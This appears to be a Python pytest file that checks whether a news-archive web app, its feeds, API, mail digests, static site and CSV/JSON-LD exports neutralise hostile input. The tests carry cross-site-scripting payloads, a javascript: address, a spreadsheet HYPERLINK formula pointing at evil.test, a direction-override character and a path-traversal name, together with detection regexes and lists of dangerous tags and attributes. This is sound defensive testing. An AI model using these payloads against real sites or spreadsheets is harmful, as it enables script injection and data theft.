"""An archive in which every text is an attack, on every page, in every feed, mail, export and the site.

Nothing may become an element, an attribute, an address a browser runs, a formula a spreadsheet runs,
or a change of direction that reaches the words around it. `make attack` asks a real browser.
"""

import csv
import json
import re
from dataclasses import replace
from hashlib import sha256
from io import StringIO
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from marsad import api, bootstrap, feeds
from marsad.adapters.archive import SqlArchive
from marsad.adapters.archive.doors import SqlDoors
from marsad.adapters.archive.weave_store import SqlWeave
from marsad.adapters.clock import SystemClock
from marsad.adapters.tantivy_index import IndexHome
from marsad.flows import export
from marsad.flows.digest import make_digest
from marsad.flows.indexing import Indexer
from marsad.flows.library import Library
from marsad.flows.sync import sync
from marsad.flows.tables import table_of
from marsad.flows.weave import Weaver
from marsad.mail.writing import Style, digest_html
from marsad.model.analysis import Analysis, Claim, Cue, Name, Quantity, Speaker, TimeExpression
from marsad.model.article import Article, ArticleId, Credit, Dating, Noise, Paragraph, Source
from marsad.model.door import SourceDoor
from marsad.model.page import Page
from marsad.model.span import Span
from marsad.ports import KeptPage
from marsad.web.app import create_app
from marsad.web.dossier import dossier
from marsad.web.site import write_site

RLO, LRI = "\u202e", "\u2066"
EVIL = (
    """<script src=//evil.test></script>"onmouseover="pwn()' onfocus='pwn() <img src=x onerror=pwn()>"""
    f"{RLO}{LRI}"
)
ADDRESS = 'javascript:pwn()//"><script>pwn()</script>'
FORMULA = '=HYPERLINK("http://evil.test","x")'
WORDS = "محصول القمح في المحافظة الشمالية هذا الموسم بعد أمطار الخريف الغزيرة التي عمت البلاد كلها"
RUNS = re.compile(r"^\s*(javascript|vbscript|data:text/html)", re.IGNORECASE)
LINKS = {"href", "src", "action", "formaction", "poster", "xlink:href", "srcset", "data", "content"}


def hostile_page(nth: int) -> KeptPage:
    said = f"{EVIL} {nth + 3} طن {WORDS}"
    body = f"{EVIL} قال {said} {WORDS} رقم {nth}.\n\n{EVIL} {WORDS}. {FORMULA}"
    content = f"{body}{nth}".encode()
    page = Page(content=content, door="import", url=ADDRESS, media_type=EVIL, charset=EVIL)
    which = ArticleId("a" + sha256(content).hexdigest()[:16])
    start = body.index("قال") + 4
    span = Span(start, start + len(said))
    at = body.index(f"{nth + 3} طن")
    number = Quantity(
        span=Span(at, at + 1),
        text=EVIL,
        low=nth + 3,
        high=nth + 3,
        rule=EVIL,
        unit=EVIL,
        noun=EVIL,
        scope=EVIL,
    )
    speaker = Speaker(name=EVIL, kind="person", role=EVIL, id=f"n-{EVIL}")
    claim = Claim(
        speaker=speaker, cue=Cue(text="قال", cls="say", span=Span(start - 4, start - 1)), kind="indirect",
        span=span, text=said, rule=EVIL, confidence=0.9, said_on="2024-10-30", channel=EVIL, addressee=EVIL,
        chain=(EVIL, EVIL), quantities=(number,),
    )  # fmt: skip
    cut = body.index("\n\n")
    headline = f"{EVIL} {FORMULA} {WORDS}"
    article = Article(
        id=which, page=page.id, position=0, headline=headline, body=body, url=ADDRESS, path=EVIL,
        paragraphs=(Paragraph(span=Span(0, cut)), Paragraph(span=Span(cut + 2, len(body)))),
        deck=EVIL, byline=(EVIL,), place=EVIL, category=EVIL, keywords=(EVIL, FORMULA), language='ar" x="',
        published=Dating(value="2024-10-30", precision="day", evidence="printed", text=EVIL, rule=EVIL),
        modified=Dating(value=EVIL, precision="day", evidence="printed", text=EVIL, rule=EVIL),
        source=Source(name=f"{FORMULA}{EVIL}{nth}", domain=f'evil{nth}.test"><script>pwn()</script>'),
        credits=(Credit(name=EVIL, kind="agency", text=EVIL, place=EVIL),), image=ADDRESS,
        related=(EVIL,), noise=(Noise(kind="other", text=EVIL),), notes=(EVIL,),
    )  # fmt: skip
    name = Name(span=Span(0, 8), text=EVIL, type="person", canonical=EVIL, id=f"n-{EVIL}", rule=EVIL)
    moment = TimeExpression(span=Span(cut + 2, cut + 9), text=EVIL, type="DATE", value=EVIL, rule=EVIL)
    analysis = Analysis(
        article=which, version="test", sentences=(Span(0, cut),), claims=(claim,), quantities=(number,),
        names=(name,), times=(moment,), headline_names=(replace(name, span=Span(0, 5)),),
    )  # fmt: skip
    return KeptPage(page=page, articles=(article,), analyses=(analysis,))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The archive, with doors and refusals that attack too, and its application."""
    folder = tmp_path_factory.mktemp("hostile") / "archive"
    archive = SqlArchive(str(folder), SystemClock(), create=True)
    archive.keep([hostile_page(nth) for nth in range(3)])
    archive.refuse(ADDRESS, "unreachable", detail=EVIL)
    archive.refuse(EVIL, "too_long", detail=EVIL)
    doors = SqlDoors(archive.engine)
    doors.put(
        SourceDoor(address=ADDRESS, kind="feed", name=EVIL, due=SystemClock().now(), trouble=EVIL, etag=EVIL)
    )
    index = IndexHome(folder / "index")
    library = Library(archive, SqlWeave(archive.engine), index, SystemClock())
    sync(archive, [Weaver(archive, library.weave), Indexer(archive, index, library.weave)])
    settings = bootstrap.settings()
    yield library, bootstrap.web(library, settings, doors)
    library.close()


def dangers(html: str) -> list[str]:
    """Return everything in *html* that an attack could have made; empty is safe."""
    found: list[str] = []
    tree = LexborHTMLParser(html)
    for node in tree.css("*"):
        if node.tag == "script" and not _own_script(node):
            found.append(f"script: {node.html[:80]}")
        if node.tag in ("img", "iframe", "object", "embed", "base", "svg:script"):
            found.append(f"element: {node.html[:80]}")
        for name, value in node.attributes.items():
            if name.startswith("on") or name in ("srcdoc", "x"):
                found.append(f"attribute: {node.tag} {name}={value}")
            if name in LINKS and RUNS.match(value or ""):
                found.append(f"address: {node.tag} {name}={value}")
            if name == "style" and "evil" in (value or ""):
                found.append(f"style: {value}")
    return found


def _own_script(node: LexborNode) -> bool:
    """True for a file of ours, and for linked data that cannot end its element early."""
    if node.attributes.get("type") == "application/ld+json":
        text = node.text(deep=True)
        linked = dict(_strings(json.loads(text)))
        return "<" not in text and not RUNS.match(linked.get("url", ""))
    return (node.attributes.get("src") or "").startswith(("/static/", "static/", "../"))


def loose_direction(html: str) -> list[str]:
    """Return texts with a direction override that no element keeps to itself."""
    tree = LexborHTMLParser(html)
    body = tree.body
    assert body is not None
    loose = []
    for node in body.traverse(include_text=True):
        if node.tag == "-text" and RLO in (node.text(deep=False) or "") and not _isolated(node):
            loose.append(node.parent.html[:160] if node.parent else "")
    return loose


def _isolated(node: LexborNode) -> bool:
    above = node.parent
    while above is not None and above.tag not in ("body", "-undef"):
        block = above.tag in ("p", "li", "td", "th", "h1", "h2", "blockquote", "div", "title", "textarea")
        if above.tag in ("bdi", "code", "script", "title") or "dir" in above.attributes or block:
            return True  # a block ends a direction by itself; inline words need an isolate
        above = above.parent
    return False


def pages_of(library: Library) -> list[str]:
    ids = [filed.article.id for filed in library.every_article()]
    stories = [story.id for story in library.every_story()]
    evil = quote(EVIL, safe="")
    assert len(ids) == 3
    assert stories
    return [
        "/", "/claims", "/sources", "/about", "/search?q=" + quote("القمح"), f"/search?q={evil}",
        f"/claims?speaker={evil}&story={evil}&cue={evil}&q={evil}", f"/name/{quote('n-' + EVIL, safe='')}",
        f"/name/{evil}", f"/article/{evil}", f"/story/{evil}", f"/nothing/{evil}", f"/?cursor={evil}",
        f"/preferences?language={evil}&back=//evil.test",
        *(f"/article/{each}" for each in ids), *(f"/story/{each}" for each in stories),
        f"/article/{ids[0]}/beside/{ids[1]}",
    ]  # fmt: skip


def test_no_page_runs_or_turns_anything(hostile, client_of):
    """Every page in both languages: nothing became markup, no address runs, directions stay inside."""
    library, app = hostile
    client = client_of(app.routes)
    client._app = app  # with its headers and handlers
    seen = 0
    for language in ("ar", "en"):
        for path in pages_of(library):
            answer = client.get(path, headers={"Accept-Language": language})
            assert answer.status_code < 500, path
            assert "script-src 'self'" in answer.headers["content-security-policy"]
            assert answer.headers["x-content-type-options"] == "nosniff"
            location = answer.headers.get("location", "/")
            assert location.startswith("/"), path
            assert not location.startswith(("//", "/\\")), path
            if answer.headers.get("content-type", "").startswith("text/html"):
                assert dangers(answer.text) == [], path
                assert loose_direction(answer.text) == [], path
                seen += "evil.test" in answer.text
    assert seen > 20, "the attacks must have been on the pages"


FEEDS = ("/feed", "/disputed", "/story/{story}", "/search", "/name/{name}", "/source/{source}")


def test_no_feed_carries_markup_or_addresses_that_run(hostile, client_of):
    """Feeds are well formed; what a reader would show as HTML holds nothing that runs."""
    library, app = hostile
    client = client_of(app.routes)
    story = next(iter(library.every_story())).id
    source = next(iter(library.every_article())).article.source.domain
    values = {"story": story, "name": quote("n-" + EVIL, safe=""), "source": quote(source, safe="")}
    read = 0
    for path in FEEDS:
        for ending in ("rss", "atom", "json"):
            address = f"{path.format(**values)}.{ending}" + (
                "?q=" + quote("القمح") if path == "/search" else ""
            )
            answer = client.get(address)
            assert answer.status_code in (200, 404), address
            assert not answer.headers["content-type"].startswith("text/html")
            if answer.status_code == 404:
                continue
            read += 1
            texts = (
                list(_strings(json.loads(answer.text))) if ending == "json" else _xml_texts(answer.content)
            )
            for key, text in texts:
                if key in (
                    "link",
                    "url",
                    "href",
                    "home_page_url",
                    "feed_url",
                    "id",
                    "guid",
                    "image",
                    "external_url",
                ):
                    assert not RUNS.match(text), (address, key, text)
                if key in (("content_html",) if ending == "json" else ("description", "content", "encoded")):
                    assert dangers(text) == [], (address, key)
    assert read >= 12


def _strings(value, key=""):
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from _strings(inner, name)
    elif isinstance(value, list):
        for inner in value:
            yield from _strings(inner, key)
    elif isinstance(value, str):
        yield key, value


def _xml_texts(content: bytes):
    root = ElementTree.fromstring(content)
    for node in root.iter():
        tag = node.tag.rpartition("}")[2]
        if node in root.findall("./channel/description"):
            continue  # plain text by the standard
        if node.text:
            yield tag, node.text
        yield from node.attrib.items()


def test_the_api_answers_in_json_and_says_so(hostile, client_of):
    """No answer of the API can be taken for a page."""
    library, app = hostile
    client = client_of(app.routes)
    ids = [filed.article.id for filed in library.every_article()]
    for path in (
        f"articles/{ids[0]}",
        "claims",
        "search?q=" + quote("القمح"),
        "sources",
        "stories",
        quote(EVIL, safe=""),
    ):
        answer = client.get(f"/api/v1/{path}")
        assert answer.status_code in (200, 400, 404), path
        if answer.status_code == 200:
            assert answer.headers["content-type"].startswith("application/json"), path
            json.loads(answer.text)


def test_the_mail_and_the_dossier_are_as_safe(hostile):
    """Written once and opened elsewhere, without our headers: they hold nothing that runs at all."""
    library, _ = hostile
    for language in ("ar", "en"):
        digest = make_digest(library, "2024-10-01", "2030-01-01")
        html = digest_html(digest, Style(site="https://news.example/", language=language), EVIL)
        assert dangers(html) == []
    for story in library.every_story():
        html = dossier(library, story.id)
        assert dangers(html) == []
        assert loose_direction(html) == []


def test_the_site_is_as_safe_and_stays_in_its_folder(hostile, tmp_path):
    """Names of files come from ids that attack; none leaves the folder."""
    library, _ = hostile
    app = create_app(library, [*api.routes(library), *feeds.routes(library, "https://news.example")])
    write_site(
        app, tmp_path / "site", [f"/name/{quote('n-../../../' + EVIL, safe='')}"], site="https://news.example"
    )
    files = list((tmp_path / "site").rglob("*.html"))
    assert len(files) > 5
    assert [each.name for each in tmp_path.iterdir()] == ["site"]
    for file in files:
        assert dangers(file.read_text(encoding="utf-8")) == [], file.name


def test_exports_hold_no_formula_and_no_address_that_runs(hostile):
    """CSV cells that a spreadsheet would run are disarmed; linked data names only web addresses."""
    library, _ = hostile
    for name in ("articles", "claims", "figures", "stories", "copies"):
        out = StringIO()
        bootstrap.write_csv(table_of(library, name), out)
        for row in csv.reader(StringIO(out.getvalue())):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not re.match(r"-(?!\d)", cell), (name, cell)
    for record in (*export.as_json_ld(library), *export.as_ninjs(library)):
        for key, text in _strings(record):
            if key in (
                "url",
                "@id",
                "image",
                "href",
                "contentUrl",
                "uri",
                "thumbnailUrl",
                "mainEntityOfPage",
            ):
                assert not RUNS.match(text), (key, text)
